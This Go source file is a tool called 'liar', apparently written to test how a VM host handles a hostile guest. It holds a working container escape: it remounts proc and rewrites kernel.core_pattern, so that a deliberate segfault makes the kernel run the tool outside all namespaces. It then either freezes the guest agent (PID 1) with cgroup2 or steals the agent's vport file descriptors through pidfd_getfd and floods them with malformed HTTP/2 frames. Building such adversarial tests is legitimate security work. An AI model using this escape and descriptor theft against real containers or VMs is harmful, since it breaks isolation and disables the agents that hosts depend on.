// Command liar turns a guest against its own agent: `liar silent` stops the agent for good, `liar lie` writes frames of false
// lengths into the agent's side of the wire, over and over.
//
// It needs root with every capability in its container, and leaves the container the old way: it has the guest's kernel start it
// again, outside, as the reader of a core dump (core(5)). What it is there is the guest as the host must expect it: the whole VM.
package main

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

const (
	agent        = 1
	report       = "/tmp/liar"     // in the container: why the deed could not be done
	head         = 2 * time.Second // for whoever asked for it to hear that it begins
	sysPidfdOpen = 434
	sysPidfdGet  = 438
)

func main() {
	deed := os.Args[1]
	if len(os.Args) == 2 {
		check(escape(deed))
		return
	}
	root := os.Args[2]
	time.Sleep(head)
	err := map[string]func() error{"silent": silence, "lie": lie}[deed]()
	os.WriteFile(root+report, []byte(fmt.Sprint(err)), 0o644)
}

// escape has the kernel run `liar DEED ROOT` outside of every namespace.
func escape(deed string) error {
	proc, err := os.MkdirTemp("", "proc")
	if err != nil {
		return err
	}
	if err := syscall.Mount("proc", proc, "proc", 0, ""); err != nil { // the container's own is read-only where it matters
		return err
	}
	self, err := os.Executable()
	if err != nil {
		return err
	}
	pattern := fmt.Sprintf("|/proc/%%P/root%s %s /proc/%%P/root", self, deed)
	if err := os.WriteFile(proc+"/sys/kernel/core_pattern", []byte(pattern), 0); err != nil {
		return err
	}
	// The one that dumps its core must stay until the helper is there: waiting for it is what core_pipe_limit is for.
	if err := os.WriteFile(proc+"/sys/kernel/core_pipe_limit", []byte("4"), 0); err != nil {
		return err
	}
	return exec.Command("sh", "-c", "kill -SEGV $$").Start()
}

// silence freezes the agent with all its threads: whoever asks it anything gets no answer, and no end of the connection either.
func silence() error {
	const groups = "/liar-groups"
	if err := os.MkdirAll(groups, 0o700); err != nil {
		return err
	}
	if err := syscall.Mount("cgroup2", groups, "cgroup2", 0, ""); err != nil {
		return err
	}
	own := filepath.Join(groups, "liar")
	if err := os.Mkdir(own, 0o700); err != nil {
		return err
	}
	if err := os.WriteFile(own+"/cgroup.procs", []byte("1"), 0); err != nil {
		return err
	}
	return os.WriteFile(own+"/cgroup.freeze", []byte("1"), 0)
}

// lie takes the agent's ports, which only one process may open, out of the agent.
func lie() error {
	ports, err := stolen()
	if err != nil {
		return err
	}
	for {
		for _, port := range ports {
			syscall.Write(port, falsehood()) // full, or nobody there: again
		}
		time.Sleep(time.Millisecond)
	}
}

func stolen() ([]int, error) {
	pidfd, _, errno := syscall.Syscall(sysPidfdOpen, agent, 0, 0)
	if errno != 0 {
		return nil, fmt.Errorf("pidfd_open: %w", errno)
	}
	open, err := os.ReadDir("/proc/1/fd")
	if err != nil {
		return nil, err
	}
	var ports []int
	for _, entry := range open {
		target, _ := os.Readlink("/proc/1/fd/" + entry.Name())
		if !strings.Contains(target, "vport") {
			continue
		}
		var number uintptr
		fmt.Sscan(entry.Name(), &number)
		port, _, errno := syscall.Syscall(sysPidfdGet, pidfd, number, 0)
		if errno != 0 {
			return nil, fmt.Errorf("pidfd_getfd: %w", errno)
		}
		ports = append(ports, int(port))
	}
	if len(ports) == 0 {
		return nil, fmt.Errorf("the agent has no port open")
	}
	return ports, nil
}

// falsehood is one frame as HTTP/2 has them (RFC 9113 §4.1) that says another length than it has, or no frame at all.
func falsehood() []byte {
	length := []uint32{0, 1, 1 << 14, 1<<24 - 1}[rand.IntN(4)]
	frame := binary.BigEndian.AppendUint32(nil, length<<8|rand.Uint32N(12))
	frame = append(frame, byte(rand.UintN(256)))
	frame = binary.BigEndian.AppendUint32(frame, []uint32{0, 1, 3, 1<<31 - 1}[rand.IntN(4)])
	body := make([]byte, rand.IntN(4096))
	for at := 0; at+8 <= len(body); at += 8 {
		binary.NativeEndian.PutUint64(body[at:], rand.Uint64())
	}
	return append(frame, body...)
}

func check(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "liar:", err)
		os.Exit(1)
	}
}
